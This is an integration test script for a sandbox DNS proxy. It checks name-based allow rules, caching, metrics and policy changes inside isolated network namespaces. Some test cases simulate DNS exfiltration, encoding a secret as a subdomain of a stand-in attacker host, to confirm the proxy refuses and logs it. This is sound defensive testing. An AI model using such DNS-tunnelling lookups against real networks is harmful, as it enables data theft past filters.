#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
# The DNS proxy end to end (docs/dns-proxy.md), with dnsmasq as the upstream
# (its query log shows what left the host) and dig in the sandbox asking a
# server address of its choice. The host side lives in a namespace of its
# own (the jail), with the proxy, dnsmasq and the services; nothing leaves it.
set -u
# shellcheck source=tests/integration/lib.sh
. "$(dirname "$0")/lib.sh"
# shellcheck source=tests/integration/dns_lib.sh
. "$(dirname "$0")/dns_lib.sh"
# shellcheck disable=SC2119 # vr_init takes tool names, not our arguments
vr_init dig dnsmasq

# `dns` runs vrnet-bpf-dns from vrnet-bpf's own directory (vrnet-bpf links no ldns)
cp "$VRNET_BIN" "$VR_TMP/vrnet-bpf"
expect_rc "dns without vrnet-bpf-dns beside vrnet-bpf: exit 3" 3 \
	"$VR_TMP/vrnet-bpf" --pin-dir "$VR_PIN" dns
cp "$VR_TMP/err" "$VR_TMP/dns.err"
expect "... and the error names the binary it looked for" \
	grep -q "couldn't run $VR_TMP/vrnet-bpf-dns: No such file" "$VR_TMP/dns.err"
# ...and runs none that another user could have written there
install -m 0775 "$(dirname "$VRNET_BIN")/vrnet-bpf-dns" "$VR_TMP/vrnet-bpf-dns"
expect_rc "dns with a group-writable vrnet-bpf-dns beside it: exit 3, not run" 3 \
	"$VR_TMP/vrnet-bpf" --pin-dir "$VR_PIN" dns
cp "$VR_TMP/err" "$VR_TMP/dns.err"
expect "... saying why" grep -q "only root or its owner can write: not run" "$VR_TMP/dns.err"
rm -f "$VR_TMP/vrnet-bpf-dns"
ln -s "$(dirname "$VRNET_BIN")/vrnet-bpf-dns" "$VR_TMP/vrnet-bpf-dns"
expect_rc "dns with a symbolic link beside it: exit 3, not run" 3 \
	"$VR_TMP/vrnet-bpf" --pin-dir "$VR_PIN" dns

vr_jail_sandbox
jail=$VR_JAIL sbx=$VR_SBX
for a in 203.0.113.10 203.0.113.20 203.0.113.30 203.0.113.40 203.0.113.50 203.0.113.51 \
	203.0.113.52 203.0.113.99 198.51.100.66; do
	ip -n "$jail" addr add $a/32 dev vrj || vr_fatal "address $a in the jail"
done
ip -n "$jail" -6 addr add 2001:db8::10/128 dev vrj nodad || vr_fatal "2001:db8::10 in the jail"
vj() { vr -n "$jail" "$@"; }

# the upstream: a small zone, every query logged
vr_dns_upstream "$jail" 10.233.1.1 \
	--host-record=api.example.test,203.0.113.10,2001:db8::10 --txt-record=api.example.test,vr \
	--address=/cdn.example.test/203.0.113.20 \
	--cname=cname.example.test,edge.example.test --host-record=edge.example.test,203.0.113.30 \
	--host-record=bad.example.test,203.0.113.99 --host-record=new.example.test,203.0.113.40 \
	--host-record=cached.example.test,203.0.113.50,300 \
	--host-record=cached2.example.test,203.0.113.51,300 \
	--host-record=web.shared.example.test,203.0.113.52 \
	--host-record=alt.shared.example.test,203.0.113.52 \
	--address=/attacker.example/198.51.100.66
vr_dns_services "$jail"

policy=$(vr_policy dns '{"default": "deny", "dns_proxy": true,
	"allow": ["api.example.test:443/tcp", "*.cdn.example.test:443/tcp",
		  "cname.example.test:443/tcp", "bad.example.test:443/tcp",
		  "cached.example.test:443/tcp", "cached2.example.test:443/tcp",
		  "web.shared.example.test:443/tcp", "alt.shared.example.test:8080/tcp"],
	"block": ["203.0.113.99"]}')
expect "attach with name rules and dns_proxy" vj attach vrj --policy "$policy"
vj --resolver 10.233.1.1:5353 dns >"$VR_TMP/proxy.log" 2>&1 &
vr_pids+=($!)
sleep 0.5

expect_connect "before any lookup" blocked 203.0.113.10 443
expect_lookup "an allowed name, asking any server" "203.0.113.10" 192.0.2.53 api.example.test A
expect_connect "its address, allowed port" reach 203.0.113.10 443
expect_connect "its address, another port" blocked 203.0.113.10 8080
expect_lookup "its IPv6 address" "2001:db8::10" 198.51.100.7 api.example.test AAAA
expect_connect "its IPv6 address" reach 2001:db8::10 443
expect_lookup "over IPv6 to the proxy" "203.0.113.10" 2001:db8::53 api.example.test A
expect_lookup "over TCP" "203.0.113.10" 192.0.2.53 api.example.test A +tcp
expect_lookup "over TCP and IPv6" "2001:db8::10" 2001:db8::53 api.example.test AAAA +tcp
expect_lookup "refused over TCP" "NXDOMAIN" 192.0.2.53 x.attacker.example A +tcp
txt_before=$(grep -c "query\[TXT\] api.example.test from" "$VR_TMP/dnsmasq.log")
expect_eq "another type of an allowed name: answered" \
	"$(ip netns exec "$sbx" dig +time=2 +tries=1 +short @192.0.2.53 api.example.test TXT)" '"vr"'
if [ "$(grep -c "query\[TXT\] api.example.test from" "$VR_TMP/dnsmasq.log")" -gt "$txt_before" ]; then
	ok "another type of an allowed name: asked upstream"
else
	not_ok "the upstream did not see the TXT query of api.example.test"
fi
# dnsmasq refuses what it cannot answer from its own records: the proxy says SERVFAIL
expect_lookup "an upstream's refusal: SERVFAIL, not silence" "SERVFAIL" 192.0.2.53 x.cdn.example.test MX
expect_lookup "a wildcard's name" "203.0.113.20" 192.0.2.53 a.b.cdn.example.test A
expect_connect "a wildcard's address" reach 203.0.113.20 443
expect_lookup "not the wildcard's own suffix" "NXDOMAIN" 192.0.2.53 cdn.example.test A
expect_lookup "a CNAME chain" "203.0.113.30" 192.0.2.53 cname.example.test A
expect_connect "the chain's end" reach 203.0.113.30 443
expect_lookup "the chain's end by its own name" "NXDOMAIN" 192.0.2.53 edge.example.test A
expect_lookup "an allowed name with a blocked address" "203.0.113.99" 192.0.2.53 bad.example.test A
if grep -q "^answered bad.example.test. A .*covered by a block rule" "$VR_TMP/proxy.log"; then
	ok "the proxy logged that the answer's address is covered by a block rule"
else
	not_ok "the proxy's log: $(grep bad.example "$VR_TMP/proxy.log" | tail -2)"
fi
# without --log-answers, an answer is logged only for such an address
if grep -q "api.example.test" "$VR_TMP/proxy.log"; then
	not_ok "the proxy logged a plain answer without --log-answers: $(grep api.example "$VR_TMP/proxy.log" | head -2)"
else
	ok "plain answers are not logged without --log-answers"
fi
expect_connect "the blocked address stays blocked" blocked 203.0.113.99 443
before=$(upstream_saw attacker.example)
expect_lookup "exfiltration in a name" "NXDOMAIN" 192.0.2.53 c2VjcmV0.attacker.example TXT
expect_lookup "exfiltration, another server" "NXDOMAIN" 203.0.113.10 c2VjcmV0.attacker.example A
after=$(upstream_saw attacker.example)
if [ "$before" = "$after" ]; then
	ok "the refused names never reached the upstream"
else
	not_ok "the upstream saw attacker.example $((after - before)) times"
fi
expect_connect "the exfiltration domain's address" blocked 198.51.100.66 443
if grep -q "^refused c2VjcmV0.attacker.example" "$VR_TMP/proxy.log"; then
	ok "the proxy logged the refused name"
else
	not_ok "the proxy's log: $(tail -3 "$VR_TMP/proxy.log")"
fi

# log shows the refused queries with their name and type; metrics count them
timeout 3 "$VRNET_BIN" --pin-dir "$VR_PIN" -n "$jail" -j log vrj >"$VR_TMP/log.json" 2>&1
if grep '"type":"dns"' "$VR_TMP/log.json" | grep '"name":"c2VjcmV0.attacker.example."' |
	grep -q '"qtype":"TXT".*"reason":"default"\|"reason":"default".*"qtype":"TXT"'; then
	ok "log: the refused query, its name and type"
else
	not_ok "log: no refused TXT query for c2VjcmV0.attacker.example: $(grep dns "$VR_TMP/log.json" | head -3)"
fi
metric() { # NAME LABEL-MATCH: the value of a sample of vrj
	vj metrics | awk -v m="$1" -v l="$2" 'index($0, m "{") == 1 && index($0, "device=\"vrj\"") && index($0, l) { print $NF }'
}
refused=$(metric vrnet_dns_queries_total 'result="refused"')
answered=$(metric vrnet_dns_queries_total 'result="answered"')
lookup 192.0.2.53 x1.attacker.example A >/dev/null
lookup 192.0.2.53 x2.attacker.example AAAA >/dev/null
lookup 192.0.2.53 api.example.test A >/dev/null
# the proxy adds its counts to the map every 100 ms; the answered one waits for the upstream
counted() {
	[ "$(metric vrnet_dns_queries_total 'result="refused"')" = $((refused + 2)) ] &&
		[ "$(metric vrnet_dns_queries_total 'result="answered"')" = $((answered + 1)) ]
}
vr_wait_for 2 counted
refused2=$(metric vrnet_dns_queries_total 'result="refused"')
answered2=$(metric vrnet_dns_queries_total 'result="answered"')
open_now=$(metric vrnet_dns_addresses_open '')
if [ -n "$refused" ] && [ "$refused2" = $((refused + 2)) ] && [ -n "$answered" ] &&
	[ "$answered2" = $((answered + 1)) ] && [ "$open_now" = 5 ]; then
	ok "metrics: 2 more refused ($refused2), 1 more answered ($answered2), 5 addresses open"
else
	not_ok "metrics: refused $refused -> $refused2, answered $answered -> $answered2, open \"$open_now\""
fi
if command -v promtool >/dev/null 2>&1; then
	if vj metrics | promtool check metrics >"$VR_TMP/promtool.out" 2>&1; then
		ok "metrics with the DNS families: promtool check metrics passes"
	else
		not_ok "metrics: promtool: $(head -c 500 "$VR_TMP/promtool.out")"
	fi
else
	skip "metrics with the DNS families: promtool check metrics (no promtool)"
fi

# show lists what the answers opened under each name rule, with expiry; check
# explains a name: its rule, then the verdict on each address opened for it
opened=$(vj show vrj -j | "$VR_PY" -c 'import json, sys
d = json.load(sys.stdin)
for r in d["allow"]:
    if r["rule"].startswith("api.example.test"):
        print(" ".join(sorted(o["address"] + ":" + str(0 < o["expires_in_s"] <= 90) for o in r["opened"])))')
if [ "$opened" = "2001:db8::10:True 203.0.113.10:True" ]; then
	ok "show: the addresses opened under api.example.test, expiring within 90 s"
else
	not_ok "show: opened under api.example.test: \"$opened\""
fi
check_name() { # NAME WANT-EXIT DEST WANT (name_verdict, then address:verdict pairs)
	local out code got
	out=$(vj -j check vrj "$3")
	code=$?
	got=$("$VR_PY" -c 'import json, sys
d = json.loads(sys.argv[1])
print(" ".join([d["name_verdict"]] + sorted(r["address"] + ":" + r["verdict"] for r in d["results"])))' "$out" 2>&1)
	if [ "$code" = "$2" ] && [ "$got" = "$4" ]; then
		ok "$1: check $3 -> $got (exit $code)"
	else
		not_ok "$1: check $3 -> \"$got\" (exit $code), want \"$4\" (exit $2)"
	fi
}
check_name "check, an allowed name" 0 api.example.test:443/tcp \
	"allow 2001:db8::10:allow 203.0.113.10:allow"
check_name "check, another port" 1 api.example.test:8080/tcp \
	"allow 2001:db8::10:deny 203.0.113.10:deny"
check_name "check, a blocked address in an allowed name" 1 bad.example.test:443/tcp \
	"allow 203.0.113.99:deny"
check_name "check, a wildcard's name" 0 a.b.cdn.example.test:443/tcp "allow 203.0.113.20:allow"
check_name "check, a name no rule allows" 1 x.attacker.example:443/tcp "deny"
if vj check vrj api.example.test:443/tcp | grep -q "^allow api.example.test: api.example.test:443/tcp; its answers open"; then
	ok "check explains the name's rule in text"
else
	not_ok "check's text: $(vj check vrj api.example.test:443/tcp 2>&1 | head -2)"
fi

# two names, one address (a CDN's), under rules of different ports: each
# answer opens the address for its own rule, and neither closes the other's
expect_lookup "two names, one address: the first" 203.0.113.52 192.0.2.53 web.shared.example.test A
expect_connect "its rule's port" reach 203.0.113.52 443
expect_connect "the other rule's port, not looked up yet" blocked 203.0.113.52 8080
expect_lookup "the second name" 203.0.113.52 192.0.2.53 alt.shared.example.test A
expect_connect "the second name's port" reach 203.0.113.52 8080
expect_connect "the first name's port still" reach 203.0.113.52 443
check_name "check, the first name of a shared address" 0 web.shared.example.test:443/tcp \
	"allow 203.0.113.52:allow"
check_name "check, the second name of a shared address" 0 alt.shared.example.test:8080/tcp \
	"allow 203.0.113.52:allow"

# an edit adds a name rule: not resolved at the edit, served by the proxy
expect_lookup "a name before it is allowed" "NXDOMAIN" 192.0.2.53 new.example.test A
expect "allow a name by an edit" vj allow vrj "new.example.test:443/tcp" "*.edit.example.test"
if [ "$(upstream_saw new.example.test)" = 0 ]; then
	ok "the edit resolved nothing"
else
	not_ok "the edit asked the upstream for new.example.test"
fi
expect_lookup "the edit's name" "203.0.113.40" 192.0.2.53 new.example.test A
expect_connect "the edit's name's address" reach 203.0.113.40 443
check_name "check, the edit's name" 0 new.example.test:443/tcp "allow 203.0.113.40:allow"

# answers with a TTL are reused (dnsmasq's are 0 unless said): the upstream
# sees a name once, the asker gets its own spelling back
asked() { grep -ci "query\[A\] $1 from" "$VR_TMP/dnsmasq.log"; }
expect_lookup "a name with a TTL" 203.0.113.50 192.0.2.53 cached.example.test A
expect_lookup "again, spelled otherwise" 203.0.113.50 192.0.2.53 CACHED.Example.TEST A
expect_lookup "another name with a TTL" 203.0.113.51 192.0.2.53 cached2.example.test A
expect_eq "the upstream was asked once: the second answer came from the cache" \
	"$(asked cached.example.test)" 1

# A second sandbox in the same jail, whose policy allows another name: the
# first one's lookups open nothing for it, and its own policy decides its names.
sbx2=vrsbx2$VR_ID
vr_jail_add_sandbox "$jail" "$sbx2" vrj2 vrk2 2
expect "attach the second sandbox" vj attach vrj2 --policy "$(vr_policy dns2 '{"default": "deny",
	"dns_proxy": true, "allow": ["edge.example.test:443/tcp", "cached.example.test:443/tcp"]}')"
expect_connect "the first sandbox still reaches its name's address" reach 203.0.113.10 443
in=$sbx2 expect_connect "the second sandbox: the first one's opened address" blocked 203.0.113.10 443
got=$(ip netns exec "$sbx2" dig +time=2 +tries=1 +noall +comments @192.0.2.53 api.example.test A |
	sed -n 's/.*status: \([A-Z]*\).*/\1/p')
if [ "$got" = NXDOMAIN ]; then
	ok "the second sandbox: the first one's name is NXDOMAIN under its own policy"
else
	not_ok "the second sandbox asking api.example.test: \"$got\", want NXDOMAIN"
fi
# ...while its own name works for it: the "blocked" above is the filter's
got=$(ip netns exec "$sbx2" dig +time=2 +tries=1 +short @192.0.2.53 edge.example.test A)
[ "$got" = 203.0.113.30 ] || not_ok "the second sandbox asking edge.example.test: \"$got\""
in=$sbx2 expect_connect "the second sandbox: its own name's address" reach 203.0.113.30 443
# the cache comes after each sandbox's own policy, and opens for the asker
in=$sbx2 expect_connect "the second sandbox: a cached name's address, before its lookup" \
	blocked 203.0.113.50 443
expect_lookup "the first sandbox again (an answer is reused for 5 s)" 203.0.113.50 192.0.2.53 \
	cached.example.test A
asked_before=$(asked cached.example.test)
in=$sbx2 expect_lookup "the second sandbox: the cached name" 203.0.113.50 192.0.2.53 \
	cached.example.test A
in=$sbx2 expect_connect "the second sandbox: opened for it by the cached answer" reach 203.0.113.50 443
in=$sbx2 expect_lookup "the second sandbox: a cached name its policy does not allow" NXDOMAIN \
	192.0.2.53 cached2.example.test A
in=$sbx2 expect_connect "the second sandbox: that name's address" blocked 203.0.113.51 443
expect_eq "the second sandbox's answer came from the cache" "$(asked cached.example.test)" \
	"$asked_before"
expect "detach the second sandbox" vj detach vrj2
# an apply carries what the proxy opened over to the new policy when its name
# rules are the old ones or fewer: under the new rule's ports; what lost its
# rule closes. A new name rule could decide a name otherwise: nothing carries.
expect_connect "before the applies: the edit's name" reach 203.0.113.40 443
expect "apply: the same names, api.example.test on another port" vj apply vrj --policy \
	"$(vr_policy dns3 '{"default": "deny", "dns_proxy": true,
	"allow": ["api.example.test:8080/tcp", "*.cdn.example.test:443/tcp",
		  "cname.example.test:443/tcp", "bad.example.test:443/tcp"],
	"block": ["203.0.113.99"]}')"
expect_connect "carried, under the new port" reach 203.0.113.10 8080
expect_connect "carried, not under the old port" blocked 203.0.113.10 443
expect_connect "carried, another rule's address" reach 203.0.113.20 443
expect_connect "the rule that went: its address closed" blocked 203.0.113.40 443
expect "apply: a new name rule" vj apply vrj --policy "$(vr_policy dns4 '{"default": "deny",
	"dns_proxy": true, "allow": ["api.example.test:8080/tcp", "*.cdn.example.test:443/tcp",
	"cname.example.test:443/tcp", "bad.example.test:443/tcp", "other.example.test"],
	"block": ["203.0.113.99"]}')"
expect_connect "a new name rule: nothing carried" blocked 203.0.113.10 8080
expect_lookup "looked up again" "203.0.113.10" 192.0.2.53 api.example.test A
expect_connect "looked up again: open" reach 203.0.113.10 8080
expect "detach" vj detach vrj
